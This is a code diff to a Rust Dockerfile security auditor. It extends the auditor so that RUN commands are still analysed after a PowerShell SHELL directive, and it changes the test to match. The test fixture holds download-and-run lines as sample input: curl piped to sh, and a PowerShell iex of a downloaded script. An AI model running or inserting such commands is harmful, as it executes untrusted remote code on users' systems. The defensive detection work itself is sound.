@@ -9,13 +9,15 @@
 //! - `ARG` and `ENV` values are known in the lines after them: `FROM $BASE` is judged with
 //!   `ARG BASE=…`'s value, and `RUN` scripts see them as variables. An `ARG` without a
 //!   default stays unknown.
-//! - After `SHELL ["pwsh", …]`, `RUN` is not a POSIX shell, and not read.
+//! - After `SHELL ["powershell", …]`, `RUN` text is still read: the rules know
+//!   PowerShell's download-and-run idioms (`iex`), and a heredoc is fed to a shell only
+//!   when the `RUN` names one.
 
 use super::Source;
 use crate::audit::images;
 use crate::audit::model::{EnvVar, Expands, ImageUse, Model, Place, Script};
 
-/// Shells whose `RUN` text, or heredoc given as input, the audit reads.
+/// Shells that run a heredoc given to them as input: its body is then a script.
 const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "ksh"];
 
 /// Most heredocs read in one instruction: a hostile line costs bounded work.
@@ -28,7 +30,6 @@ pub(super) fn read(src: &Source<'_>) -> Model {
     let mut stages: Vec<String> = Vec::new();
     // `ARG`/`ENV` values in force, later ones last.
     let mut vars: Vec<EnvVar> = Vec::new();
-    let mut posix = true;
     let mut i = 0;
     while i < lines.len() {
         let start = i;
@@ -98,19 +99,7 @@ pub(super) fn read(src: &Source<'_>) -> Model {
                     }
                 }
             }
-            "SHELL" => {
-                let program = rest
-                    .trim()
-                    .trim_start_matches('[')
-                    .split(',')
-                    .next()
-                    .unwrap_or_default()
-                    .trim()
-                    .trim_matches('"');
-                let name = program.rsplit(['/', '\\']).next().unwrap_or_default();
-                posix = SHELLS.contains(&name);
-            }
-            "RUN" if posix => {
+            "RUN" => {
                 let column = indent + instr.len() + 1;
                 let command = if docs.is_empty() {
                     rest.to_string()
@@ -402,8 +391,8 @@ RUN curl $TOOL_URL | sh
 FROM ${UNSET}
 FROM build
 FROM ${MISSING:-reg.example.com/def:3}
-SHELL [\"pwsh\", \"-Command\"]
-RUN iwr https://example.com | iex
+SHELL [\"powershell\", \"-Command\"]
+RUN iex ((New-Object Net.WebClient).DownloadString('https://example.com/i.ps1'))
 ";
         let m = model(text);
         let images: Vec<(&str, usize, usize)> = m
@@ -419,7 +408,8 @@ RUN iwr https://example.com | iex
                 ("reg.example.com/def:3", 9, 6),
             ]
         );
-        assert_eq!(m.scripts.len(), 1);
+        assert_eq!(m.scripts.len(), 2);
+        assert!(m.scripts[1].body.starts_with("iex "));
         let env: Vec<(&str, &str)> = m.scripts[0]
             .env
             .iter()
